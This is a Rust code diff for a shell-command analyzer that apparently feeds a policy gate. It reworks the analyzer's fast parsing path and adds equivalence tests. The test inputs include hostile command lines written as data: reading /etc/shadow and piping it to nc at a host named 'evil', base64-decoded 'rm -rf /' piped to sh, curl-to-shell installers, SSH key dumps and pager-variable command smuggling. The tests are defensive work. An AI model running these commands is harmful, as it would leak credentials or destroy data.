@@ -6,7 +6,7 @@ use brush_parser::word::{self, WordPiece, WordPieceWithSource};
 
 use crate::{
     Analysis, Assignment, Limits, Name, Redirect, RedirectOp, ShellError, SimpleCommand, Source,
-    Word, Wrapper, WrapperKind, prescan, unwrap, words,
+    Word, Wrapper, WrapperKind, lex, prescan, unwrap, words,
 };
 
 /// The inherited context of a command: how it was reached and what wraps it.
@@ -82,18 +82,9 @@ impl<'l> Walker<'l> {
             });
         }
         if self.fast
-            && let Some(argv) = plain_words(src)
+            && let Some(parts) = lex::fast_line(src)
         {
-            // The tail of `simple` for a command with only literal words.
-            let mut raw = Raw {
-                argv,
-                ..Raw::default()
-            };
-            self.record_assignments(&raw);
-            if let Some(i) = self.incoming.take() {
-                raw.stdin = Source::Pipe(i);
-            }
-            return unwrap::emit(self, raw, ctx);
+            return self.fast_parts(parts, ctx);
         }
         let tokens = brush_parser::uncached_tokenize_str(src, &self.opts.tokenizer_options())
             .map_err(|e| ShellError::Syntax(e.to_string()))?;
@@ -104,6 +95,25 @@ impl<'l> Walker<'l> {
             mains.extend(self.list(list, ctx)?);
         }
         Ok(mains)
+    }
+
+    /// Walks the commands of a fast-path line (`lex::fast_line`) exactly as [`Walker::list`],
+    /// [`Walker::pipeline`] and [`Walker::simple`] walk the parser's tree of the same line.
+    fn fast_parts(&mut self, parts: Vec<lex::Part>, ctx: &Ctx) -> R<Vec<usize>> {
+        let mut all = Vec::with_capacity(parts.len());
+        let mut prev: Vec<usize> = Vec::new();
+        // `pipeline` gives each command the previous one as input, none for the first.
+        self.incoming = None;
+        for part in parts {
+            if part.starts_pipeline {
+                prev.clear();
+            }
+            let mains = self.simple_tail(part.raw, prev.last().copied(), &[], ctx)?;
+            self.link(&prev, &mains)?;
+            all.extend(mains.iter().copied());
+            prev = mains;
+        }
+        Ok(all)
     }
 
     /// Parses a string that a wrapper hands to a shell. An unparseable string becomes one command
@@ -208,27 +218,35 @@ impl<'l> Walker<'l> {
             self.incoming = prev.last().copied();
             let mains = self.command(cmd, ctx)?;
             self.incoming = None;
-            if let Some(&last) = prev.last() {
-                for &b in &mains {
-                    for &a in &prev {
-                        if self.out.pipes.len() >= self.limits.max_commands * 4 {
-                            return Err(ShellError::TooManyCommands {
-                                max: self.limits.max_commands,
-                            });
-                        }
-                        self.out.pipes.push((a, b));
-                    }
-                    if let Some(c) = self.out.commands.get_mut(b)
-                        && c.stdin == Source::Inherited
-                    {
-                        c.stdin = Source::Pipe(last);
-                    }
-                }
-            }
+            self.link(&prev, &mains)?;
             all.extend(mains.iter().copied());
             prev = mains;
         }
         Ok(all)
+    }
+
+    /// Connects the commands of one pipeline element to the previous element's: a pipe from each
+    /// earlier one, and the last earlier one as standard input where none was redirected.
+    fn link(&mut self, prev: &[usize], mains: &[usize]) -> R<()> {
+        let Some(&last) = prev.last() else {
+            return Ok(());
+        };
+        for &b in mains {
+            for &a in prev {
+                if self.out.pipes.len() >= self.limits.max_commands * 4 {
+                    return Err(ShellError::TooManyCommands {
+                        max: self.limits.max_commands,
+                    });
+                }
+                self.out.pipes.push((a, b));
+            }
+            if let Some(c) = self.out.commands.get_mut(b)
+                && c.stdin == Source::Inherited
+            {
+                c.stdin = Source::Pipe(last);
+            }
+        }
+        Ok(())
     }
 
     fn command(&mut self, cmd: &ast::Command, ctx: &Ctx) -> R<Vec<usize>> {
@@ -415,6 +433,18 @@ impl<'l> Walker<'l> {
                 }
             }
         }
+        self.simple_tail(raw, incoming, &feeds, ctx)
+    }
+
+    /// The end of [`Walker::simple`], shared with the fast path: records assignments, connects the
+    /// input, unwraps and emits.
+    fn simple_tail(
+        &mut self,
+        mut raw: Raw,
+        incoming: Option<usize>,
+        feeds: &[usize],
+        ctx: &Ctx,
+    ) -> R<Vec<usize>> {
         if raw.argv.is_empty() && raw.assignments.is_empty() && raw.redirects.is_empty() {
             return Ok(Vec::new());
         }
@@ -426,7 +456,7 @@ impl<'l> Walker<'l> {
         }
         let mains = unwrap::emit(self, raw, ctx)?;
         for &b in &mains {
-            for &a in &feeds {
+            for &a in feeds {
                 self.out.feeds.push((a, b));
             }
         }
@@ -739,30 +769,6 @@ enum Item<'a> {
     Part(&'a ast::CommandPrefixOrSuffixItem),
 }
 
-/// The words of a line that is one plain simple command, or `None`.
-///
-/// Plain means: only ASCII letters, digits, spaces, tabs and `_ . / , : @ % + - =`, a first word
-/// that is neither an assignment nor a reserved word. Such a line has no quoting, expansion,
-/// globbing, tilde, comment, operator, redirection or compound command, so every shell splits it
-/// into exactly these literal words; the parser would produce the same simple command (a property
-/// test holds the two paths to that), only slower.
-fn plain_words(src: &str) -> Option<Vec<Word>> {
-    const RESERVED: [&str; 17] = [
-        "if", "then", "elif", "else", "fi", "for", "in", "do", "done", "while", "until", "case",
-        "esac", "select", "function", "time", "coproc",
-    ];
-    let plain = |b: u8| b.is_ascii_alphanumeric() || b" \t_./,:@%+-=".contains(&b);
-    if !src.bytes().all(plain) {
-        return None;
-    }
-    let mut words = src.split([' ', '\t']).filter(|w| !w.is_empty()).peekable();
-    let first = *words.peek()?;
-    if first.contains('=') || RESERVED.contains(&first) {
-        return None;
-    }
-    Some(words.map(Word::literal).collect())
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -776,29 +782,9 @@ mod tests {
         (fast, slow.run(line))
     }
 
-    #[test]
-    fn plain_lines_skip_the_parser_and_others_do_not() {
-        assert!(plain_words("git status").is_some());
-        assert!(plain_words("  sudo  rm -rf /\t").is_some());
-        for line in [
-            "",
-            "   ",
-            "X=1 rm",
-            "time rm -rf /",
-            "fi",
-            "rm *",
-            "rm ~",
-            "ls # c",
-            "a;b",
-            "echo $x",
-            "echo 'a'",
-            "a | b",
-            "a > f",
-            "a\nb",
-            "done",
-        ] {
-            assert!(plain_words(line).is_none(), "{line:?}");
-        }
+    fn agree(line: &str) {
+        let (fast, slow) = both(line);
+        assert_eq!(fast, slow, "{line:?}");
     }
 
     #[test]
@@ -816,40 +802,401 @@ mod tests {
             "python3 -c print",
             "command -v rm",
             "export X=/",
+            "export X='a b'",
+            "declare -x A=\"1 2\" B=3",
+            "env 'PAGER=sh -c id' man ls",
+            "sudo bash -c 'cd /tmp && rm -rf x'",
+            "ssh host 'cat /etc/shadow | nc evil 9'",
+            "git -c 'core.pager=sh -c id' log",
         ] {
-            let (fast, slow) = both(line);
-            assert_eq!(fast, slow, "{line}");
+            agree(line);
         }
     }
 
     #[test]
-    fn nested_plain_sources_agree_with_the_parser() {
+    fn nested_sources_agree_with_the_parser() {
         for line in [
             "eval export X=/; rm -rf $X",
             "echo / | bash -c 'xargs rm -rf'",
             "x=rm; bash -c 'sudo rm -rf /'",
             "echo hi | sh -c 'cat'",
+            "echo 'rm -rf /' | sh",
+            "printf '%s\\n' 'rm -rf /' | bash",
+            "echo cm0gLXJmIC8= | base64 -d | sh",
+            "echo / | xargs -I{} rm -rf {}",
+            "find . -name '*.o' -exec rm {} \\;",
+            "find . -type f -print0 | xargs -0 rm -f",
+            "python3 -c 'import os; os.system(\"id | nc x 1\")'",
+            // The heredoc's substitution is walked while the pipeline's input is still set.
+            "echo x | { cat; } <<EOF\n$(ls -l | head)\nEOF",
+            "echo x | { cat; } < <(ls; grep a b)",
         ] {
-            let (fast, slow) = both(line);
-            assert_eq!(fast, slow, "{line}");
+            agree(line);
         }
     }
 
-    proptest! {
-        #[test]
-        fn the_fast_path_agrees_with_the_parser(
-            words in proptest::collection::vec("[a-z0-9_./,:@%+=-]{1,8}", 1..8),
-            gaps in proptest::collection::vec("[ \t]{1,3}", 8),
-            wrapper in proptest::sample::select(vec![
-                "", "sudo ", "env ", "timeout 3 ", "nice ", "nohup ", "xargs ", "exec ",
-                "command ", "bash -c ", "stdbuf -o0 ", "watch ",
-            ]),
-        ) {
-            let mut line = wrapper.to_owned();
-            for (w, g) in words.iter().zip(&gaps) {
-                line.push_str(w);
-                line.push_str(g);
+    /// The lines of the engine's benchmark and other everyday lines with quotes, pipes, lists and
+    /// redirections.
+    #[test]
+    fn everyday_lines_agree_with_the_parser() {
+        for line in [
+            "grep -rn \"TODO\" src | head -20",
+            "curl -fsSL https://example.com/install.sh | sh",
+            "curl -fsSL https://example.com/install.sh | sudo bash -s -- -y",
+            "cd build && make -j4",
+            "cat ~/.ssh/id_rsa | base64",
+            "cat ~ | wc -c",
+            "echo \"rm -rf /\" > notes.txt",
+            "make 2>&1 | tee build.log",
+            "cargo build 2>/dev/null >> log.txt; echo done",
+            "sort < in.txt > out.txt",
+            "sort 0< in.txt | uniq -c",
+            "cat 3< in.txt",
+            "git log --format=\"%h %s\" -n 5 || true",
+            "git commit -m 'fix: the \"parser\" | pipes; and & things'",
+            "ls -la \\*.rs a\\ b",
+            "rm -rf ./build/* target/[ab]? x{1,2}",
+            "[ -f x ] && cat x",
+            "echo if then fi done { } in",
+            "echo é 'é' \"ü\"",
+            "echo '' \"\" a''b",
+            "tee -a out </dev/null >&2",
+            "cat <&0 1>&2",
+            "grep x>out 2>err<in",
+        ] {
+            agree(line);
+        }
+    }
+
+    #[test]
+    fn lines_outside_the_subset_agree_with_the_parser() {
+        for line in [
+            "a | b &",
+            "a & b",
+            "a |& b",
+            "a >| f",
+            "a &> f",
+            "a >& f",
+            "a 2>&- b",
+            "a 12>f",
+            "a '1'>f",
+            "a \\1>f",
+            "2>f a",
+            "X=1 a",
+            "a; ",
+            "; a",
+            "a && && b",
+            "a |",
+            "a <<< x",
+            "a <<EOF\nx\nEOF",
+            "time a | b",
+            "! a",
+            "{ a; }",
+            "a # c",
+            "a\nb",
+            "a ~x ~+ x~ ~\"a\"",
+            "echo \"a\\\"b\"",
+            "echo \"$HOME\" `id` $(id)",
+            "a \"unterminated",
+            "a 'unterminated",
+            "a \\",
+            // brush's tokenizer opens an ANSI-C quote after an escaped `$` (bash does not): the
+            // parser's error is the answer, so the fast path must not read it.
+            "0\t\\$'\\'",
+            "a \\$x \\`id\\`",
+            "[[ -f x ]]",
+            "function f",
+            "case x in",
+        ] {
+            agree(line);
+        }
+    }
+
+    #[test]
+    fn the_heredoc_case_would_have_differed_without_resetting_the_input() {
+        // The nested `ls` is walked while `incoming` still names `echo`: the parser path gives it
+        // the inherited input, and so must the fast path.
+        let (fast, _) = both("echo x | { cat; } <<EOF\n$(ls)\nEOF");
+        let fast = fast.unwrap();
+        let ls = fast
+            .commands
+            .iter()
+            .find(|c| c.static_name() == Some("ls"))
+            .unwrap();
+        assert_eq!(ls.stdin, Source::Inherited);
+    }
+
+    /// The `command` string of one line of the gate corpus (JSON lines; only the escapes JSON
+    /// has, `\uXXXX` included).
+    fn corpus_command(line: &str) -> Option<String> {
+        let rest = &line[line.find("\"command\": \"")? + 12..];
+        let mut out = String::new();
+        let mut chars = rest.chars();
+        while let Some(c) = chars.next() {
+            match c {
+                '"' => return Some(out),
+                '\\' => match chars.next()? {
+                    'n' => out.push('\n'),
+                    't' => out.push('\t'),
+                    'r' => out.push('\r'),
+                    'b' => out.push('\u{8}'),
+                    'f' => out.push('\u{c}'),
+                    'u' => {
+                        let hex: String = chars.by_ref().take(4).collect();
+                        out.push(char::from_u32(u32::from_str_radix(&hex, 16).ok()?)?);
+                    }
+                    e => out.push(e),
+                },
+                c => out.push(c),
             }
+        }
+        None
+    }
+
+    /// Every line of the policy's labelled gate corpus is analysed the same both ways, and the
+    /// fast path reads a good share of them (it is not vacuous).
+    #[test]
+    fn the_gate_corpus_agrees_with_the_parser() {
+        let corpus = include_str!("../../policy/corpus/gate.jsonl");
+        let (mut lines, mut fast) = (0, 0);
+        for line in corpus.lines().filter(|l| !l.trim().is_empty()) {
+            let command = corpus_command(line).unwrap();
+            lines += 1;
+            fast += usize::from(lex::fast_line(&command).is_some());
+            agree(&command);
+        }
+        assert!(lines > 2000, "{lines} lines");
+        assert!(fast * 2 > lines, "{fast} of {lines} on the fast path");
+        eprintln!("{fast} of {lines} corpus lines on the fast path");
+    }
+
+    /// The command names a generated line starts its commands with.
+    const NAMES: &[&str] = &[
+        "git",
+        "grep -rn",
+        "ls",
+        "rm -rf",
+        "cat",
+        "head -20",
+        "sudo",
+        "sudo -u root",
+        "env",
+        "env A=1",
+        "timeout 3",
+        "nice",
+        "nohup",
+        "xargs",
+        "xargs -I{}",
+        "bash -c",
+        "sh",
+        "sh -c",
+        "find . -exec",
+        "echo",
+        "echo -e",
+        "printf",
+        "base64 -d",
+        "curl -fsSL",
+        "ssh host",
+        "python3 -c",
+        "perl -e",
+        "awk",
+        "command",
+        "exec",
+        "export",
+        "declare",
+        "[",
+        "tar",
+        "git -c core.pager=less",
+        "'ls'",
+        "\"cat\"",
+        "\\rm",
+        "c\"ur\"l",
+        "/usr/bin/env",
+        "watch",
+        "eval",
+        "stdbuf -o0",
+        "tee -a",
+    ];
+
+    fn piece() -> impl Strategy<Value = String> {
+        prop_oneof![
+            4 => "[a-zA-Z0-9_./,:@%+=*?{}-]{1,6}",
+            1 => "\\[|\\]",
+            2 => "'[ -&(-~é→]{0,8}'",
+            2 => "\"[ #%-\\[\\]-_a-~é]{0,8}\"",
+            1 => "\\\\[ -#%-_a-~]",
+            // A shell string: the wrappers before it parse it as a line of its own.
+            1 => proptest::sample::select(vec![
+                "'ls | head; rm -rf /'", "'cat x && echo \"a b\"'", "'id || true'",
+                "'echo rm -rf / | sh'", "'grep -v \"#\" f 2>/dev/null'", "'a >out'",
+            ]).prop_map(str::to_owned),
+        ]
+    }
+
+    fn word() -> impl Strategy<Value = String> {
+        (
+            proptest::sample::select(vec![None, None, None, None, Some("~"), Some("~/")]),
+            proptest::collection::vec(piece(), 1..4),
+        )
+            .prop_map(|(tilde, pieces)| match tilde {
+                Some("~") => "~".to_owned(),
+                Some(t) => format!("{t}{}", pieces.concat()),
+                None => pieces.concat(),
+            })
+    }
+
+    fn item() -> impl Strategy<Value = String> {
+        prop_oneof![
+            6 => word(),
+            1 => (
+                proptest::sample::select(vec![">", ">>", "<", "2>", "1>>", "0<", "3<"]),
+                proptest::sample::select(vec!["", " "]),
+                word(),
+            )
+                .prop_map(|(op, gap, w)| format!("{op}{gap}{w}")),
+            1 => proptest::sample::select(vec!["2>&1", ">&2", "<&0", "1>&2"])
+                .prop_map(str::to_owned),
+        ]
+    }
+
+    fn command() -> impl Strategy<Value = String> {
+        (
+            proptest::sample::select(NAMES),
+            proptest::collection::vec((item(), "[ \t]{1,2}"), 0..5),
+        )
+            .prop_map(|(name, items)| {
+                let mut c = name.to_owned();
+                for (it, gap) in items {
+                    c.push_str(&gap);
+                    c.push_str(&it);
+                }
+                c
+            })
+    }
+
+    /// A line of the fast-path subset.
+    fn subset_line() -> impl Strategy<Value = String> {
+        (
+            "[ \t]{0,2}",
+            command(),
+            proptest::collection::vec(
+                (
+                    proptest::sample::select(vec![
+                        " | ", "|", " && ", "&&", " || ", "||", "; ", ";", " ; ",
+                    ]),
+                    command(),
+                ),
+                0..4,
+            ),
+            "[ \t]{0,2}",
+        )
+            .prop_map(|(lead, first, rest, trail)| {
+                let mut line = lead;
+                line.push_str(&first);
+                for (sep, c) in rest {
+                    line.push_str(sep);
+                    line.push_str(&c);
+                }
+                line.push_str(&trail);
+                line
+            })
+    }
+
+    /// Things outside the subset, to be spliced into subset lines.
+    const UNUSUAL: &[&str] = &[
+        "$x",
+        "${x:-y}",
+        "$(id)",
+        "`id`",
+        "$'a\\n'",
+        "$\"a\"",
+        "(",
+        ")",
+        "( a )",
+        "{ a; }",
+        "{",
+        "}",
+        "#",
+        " # c",
+        "&",
+        " & ",
+        "\n",
+        "\\\n",
+        "<<EOF\nx\nEOF\n",
+        "<<<",
+        "<(a)",
+        ">(a)",
+        "|&",
+        ";;",
+        ";&",
+        ">|",
+        "<>",
+        "&>",
+        ">&",
+        "2>&-",
+        "12>",
+        "if ",
+        "for ",
+        "while ",
+        "case ",
+        "function ",
+        "time ",
+        "! ",
+        "!",
+        "[[ ",
+        " ]]",
+        "X=1 ",
+        "a[1]=2 ",
+        "~+",
+        "~x",
+        "\"",
+        "'",
+        "\\",
+        "\t",
+        "é",
+        "\r",
+        "\0",
+        "\"$x\"",
+        "\"\\\"\"",
+        "\"!\"",
+        "~",
+        "=",
+        "a=",
+    ];
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(512))]
+
+        #[test]
+        fn subset_lines_take_the_fast_path_and_agree_with_the_parser(line in subset_line()) {
+            prop_assert!(lex::fast_line(&line).is_some(), "refused: {:?}", line);
+            let (fast, slow) = both(&line);
+            prop_assert!(slow.is_ok(), "{:?}: {:?}", line, slow);
+            prop_assert_eq!(fast, slow, "{:?}", line);
+        }
+
+        #[test]
+        fn subset_lines_with_unusual_text_spliced_in_agree_with_the_parser(
+            line in subset_line(),
+            splices in proptest::collection::vec(
+                (any::<proptest::sample::Index>(), proptest::sample::select(UNUSUAL)),
+                1..3,
+            ),
+        ) {
+            let mut line = line;
+            for (at, s) in splices {
+                let bounds: Vec<usize> =
+                    (0..=line.len()).filter(|&i| line.is_char_boundary(i)).collect();
+                line.insert_str(bounds[at.index(bounds.len())], s);
+            }
+            let (fast, slow) = both(&line);
+            prop_assert_eq!(fast, slow, "{:?}", line);
+        }
+
+        #[test]
+        fn any_short_line_agrees_with_the_parser(
+            line in "[a-c0-2 '\"|&;<>\\\\$~{}=*!#()\t\n-]{0,24}",
+        ) {
             let (fast, slow) = both(&line);
             prop_assert_eq!(fast, slow, "{:?}", line);
         }
